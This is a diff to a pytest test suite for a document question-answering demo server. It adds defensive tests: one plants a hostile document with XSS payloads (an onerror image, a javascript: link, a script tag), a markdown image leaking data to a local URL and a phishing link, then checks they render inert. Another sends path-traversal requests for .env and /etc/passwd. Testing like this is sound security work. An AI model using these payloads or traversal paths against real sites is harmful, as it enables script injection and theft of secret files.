@@ -9,6 +9,7 @@ import subprocess
 import sys
 import tempfile
 import time
+import urllib.error
 import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
@@ -22,15 +23,28 @@ pytestmark = pytest.mark.skipif(
 )
 
 
+SECRET = "sk-test-never-served-7f3a"
+HOSTILE = (
+    '第一条 网络安全须知：<img src=x onerror="window.__pqa_xss=1">本条说明申报安全。\n'
+    "第二条 申报安全提示：详见 ![logo](http://127.0.0.1:9/leak.png?d=secret) 和 "
+    "[点此申报](javascript:window.__pqa_xss=2) 以及 https://evil.example/phish 网址，"
+    "<script>window.__pqa_xss=3</script>切勿点击。\n"
+)
+
+
 def free_port() -> int:
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
         return int(s.getsockname()[1])
 
 
+demo_server_root: list[str] = []  # the server's working directory, for the traversal tests
+
+
 @pytest.fixture(scope="module")
 def demo_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     root = tmp_path_factory.mktemp("server")
+    demo_server_root[:] = [str(root)]
     port = free_port()
     from tests.eval.test_run import write_set
 
@@ -43,8 +57,15 @@ def demo_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
         "POLICYQA_EVAL_DATA_DIR": str(root / "evals"),
     }
     exe = str(Path(sys.executable).with_name("policyqa"))
+    # A hostile document beside the demo corpus, and secrets the server must never hand out.
+    (root / "hostile").mkdir()
+    (root / "hostile" / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
+    (root / ".env").write_text(f"OPENAI_API_KEY={SECRET}\n", encoding="utf-8")
+    subprocess.run([exe, "ingest", str(root / "hostile")], env=env, check=True, cwd=root)
     log = open(root / "server.log", "w")  # noqa: SIM115 - closed below
-    proc = subprocess.Popen([exe, "demo", "--port", str(port)], env=env, stdout=log, stderr=log)
+    proc = subprocess.Popen(
+        [exe, "demo", "--port", str(port)], env=env, stdout=log, stderr=log, cwd=root
+    )
     url = f"http://127.0.0.1:{port}"
     try:
         deadline = time.monotonic() + 120
@@ -142,3 +163,54 @@ def test_evaluation_tab_runs_a_set_with_results(page) -> None:  # type: ignore[n
     except BaseException:
         print("screenshot:", shoot_on_failure(page, "evaluation-tab"))
         raise
+
+
+def test_hostile_document_text_stays_inert(page) -> None:  # type: ignore[no-untyped-def]
+    try:
+        page.locator("#question textarea").fill("申报安全提示是什么？")
+        page.locator("#ask").click()
+        page.locator("#sources .pqa-source").first.wait_for(timeout=60_000)
+        chat = page.locator("#chat")
+        chat.get_by_text("evil.example/phish").first.wait_for(timeout=30_000)
+        # Shown as text, exactly as written ...
+        assert "![logo](http://127.0.0.1:9/leak.png?d=secret)" in chat.inner_text()
+        assert "<img src=x" in page.locator("#sources").inner_text()
+        # ... but nothing in it ran, loaded or became a link.
+        assert page.evaluate("window.__pqa_xss") is None
+        for area in ("#chat", "#sources"):
+            srcs = page.locator(f"{area} img").evaluate_all("els => els.map(e => e.src)")
+            assert not [s for s in srcs if "127.0.0.1:9" in s or s.endswith("/x")], srcs
+            hrefs = page.locator(f"{area} a").evaluate_all("els => els.map(e => e.href)")
+            assert not [h for h in hrefs if "javascript:" in h or "evil.example" in h], hrefs
+    except BaseException:
+        print("screenshot:", shoot_on_failure(page, "hostile-document"))
+        raise
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/gradio_api/file=.env",
+        "/gradio_api/file=../.env",
+        "/gradio_api/file=%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+        "/gradio_api/file=/etc/passwd",
+        "/gradio_api/file={root}/.env",
+        "/gradio_api/file={root}/index/registry.sqlite",
+        "/file=/etc/passwd",
+        "/gradio_api/file=..%2f..%2f..%2f..%2fetc%2fpasswd",
+        "/static/../../../../etc/passwd",
+        "/../.env",
+    ],
+)
+def test_no_file_outside_the_app_is_served(demo_server: str, path: str) -> None:
+    root = Path(demo_server_root[0]) if demo_server_root else Path("/nonexistent")
+    url = demo_server + path.replace("{root}", str(root))
+    try:
+        with urllib.request.urlopen(url, timeout=10) as response:
+            status, body = response.status, response.read()
+    except urllib.error.HTTPError as exc:
+        status, body = exc.code, exc.read()
+    assert (
+        SECRET.encode() not in body and b"root:x:0:0" not in body and b"SQLite format" not in body
+    )
+    assert status in (400, 403, 404, 405), (status, body[:200])
